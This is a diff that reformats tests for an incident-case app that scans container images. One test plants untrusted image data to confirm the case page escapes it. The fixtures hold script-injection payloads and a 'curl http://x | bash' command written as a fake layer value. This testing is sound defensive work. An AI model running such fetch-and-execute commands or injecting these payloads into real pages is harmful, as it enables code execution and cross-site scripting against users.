@@ -20,8 +20,9 @@ def test_creator_is_lead_and_keys_increase(alice):
 
 
 def test_create_case_through_the_api(api):
-    response = api.post("/api/cases/", {"title": "Miner in prod", "summary": "xmrig", "severity": "critical"},
-                        format="json")
+    response = api.post(
+        "/api/cases/", {"title": "Miner in prod", "summary": "xmrig", "severity": "critical"}, format="json"
+    )
     assert response.status_code == 201, response.content
     body = response.json()
     assert body["key"].startswith("INC-") and body["lead"] == "alice" and body["status"] == "open"
@@ -29,7 +30,9 @@ def test_create_case_through_the_api(api):
 
 
 def test_create_case_through_the_ui(web):
-    response = web.post(reverse("cases:list"), {"title": "From the browser", "summary": "", "severity": "high"})
+    response = web.post(
+        reverse("cases:list"), {"title": "From the browser", "summary": "", "severity": "high"}
+    )
     case = Case.objects.get(title="From the browser")
     assert response.status_code == 302 and response["Location"] == case.get_absolute_url()
     page = web.get(case.get_absolute_url())
@@ -46,10 +49,21 @@ def test_case_page_shows_image_facts_escaped(web, case, alice, small_image):
     evidence = receive_evidence(case=case, uploaded=uploaded, user=alice)
     run = ScanRun.objects.get(evidence=evidence)
     ScanRun.objects.filter(pk=run.pk).update(status=ScanStatus.SUCCEEDED, progress=1.0)
-    image = Image.objects.create(scan=run, manifest_digest="sha256:" + "b" * 64, config_digest="sha256:" + "c" * 64,
-                                 repo_tags=["<script>alert(1)</script>:latest"], user="root")
-    layer = Layer.objects.create(image=image, index=0, digest="sha256:" + "d" * 64, diff_id="sha256:" + "e" * 64,
-                                 size=1234, created_by='/bin/sh -c curl http://x | bash <img src=x onerror=alert(1)>')
+    image = Image.objects.create(
+        scan=run,
+        manifest_digest="sha256:" + "b" * 64,
+        config_digest="sha256:" + "c" * 64,
+        repo_tags=["<script>alert(1)</script>:latest"],
+        user="root",
+    )
+    layer = Layer.objects.create(
+        image=image,
+        index=0,
+        digest="sha256:" + "d" * 64,
+        diff_id="sha256:" + "e" * 64,
+        size=1234,
+        created_by="/bin/sh -c curl http://x | bash <img src=x onerror=alert(1)>",
+    )
     FileRecord.objects.create(image=image, layer=layer, path="/x", type="file", change="added")
     html = web.get(case.get_absolute_url()).content.decode()
     assert "sha256:" + "b" * 64 in html and "sha256:" + "d" * 64 in html and "sha256:" + "e" * 64 in html
